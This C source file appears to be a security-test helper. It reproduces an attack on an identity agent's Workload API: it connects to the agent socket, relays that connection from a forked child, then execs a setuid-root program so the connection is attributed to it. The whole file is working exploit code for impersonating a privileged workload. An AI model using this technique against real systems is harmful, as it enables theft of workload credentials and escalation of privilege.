/*
 * The attack of issue 16 item 1, as a real program: connect to the agent's Workload API socket, keep the
 * connection open in a forked child that relays it to an abstract Unix socket (where the test speaks gRPC
 * over it), then exec the given program (a setuid-root one) in the process that connected.
 *
 * usage: connect-then-exec <agent socket> <abstract relay name> <program> [args...]
 * prints "pid <pid>" (the connecting process) and "relay ready" before the exec.
 */
#define _GNU_SOURCE
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int pump(int from, int to)
{
    char buffer[16384];
    ssize_t n = read(from, buffer, sizeof buffer);
    if (n <= 0) {
        return -1;
    }
    for (ssize_t off = 0; off < n;) {
        ssize_t w = write(to, buffer + off, (size_t)(n - off));
        if (w <= 0) {
            return -1;
        }
        off += w;
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: %s <agent socket> <relay name> <program> [args...]\n", argv[0]);
        return 2;
    }

    struct sockaddr_un agent = {.sun_family = AF_UNIX};
    strncpy(agent.sun_path, argv[1], sizeof agent.sun_path - 1);
    int upstream = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(upstream, (struct sockaddr *)&agent, sizeof agent) != 0) {
        perror("connect to agent");
        return 1;
    }

    struct sockaddr_un relay = {.sun_family = AF_UNIX};
    size_t name = strlen(argv[2]);
    memcpy(relay.sun_path + 1, argv[2], name); /* sun_path[0] = 0: abstract namespace */
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&relay, (socklen_t)(sizeof(sa_family_t) + 1 + name)) != 0 || listen(listener, 1) != 0) {
        perror("relay listen");
        return 1;
    }

    pid_t child = fork();
    if (child < 0) {
        perror("fork");
        return 1;
    }
    if (child == 0) {
        int downstream = accept(listener, NULL, NULL);
        if (downstream < 0) {
            return 1;
        }
        struct pollfd fds[2] = {{.fd = upstream, .events = POLLIN}, {.fd = downstream, .events = POLLIN}};
        for (;;) {
            if (poll(fds, 2, -1) < 0) {
                return 1;
            }
            if ((fds[0].revents & (POLLIN | POLLHUP | POLLERR)) && pump(upstream, downstream) != 0) {
                return 0;
            }
            if ((fds[1].revents & (POLLIN | POLLHUP | POLLERR)) && pump(downstream, upstream) != 0) {
                return 0;
            }
        }
    }

    close(listener);
    printf("pid %d\nrelay ready\n", (int)getpid());
    fflush(stdout);
    execv(argv[3], argv + 3);
    perror("execv");
    return 1;
}
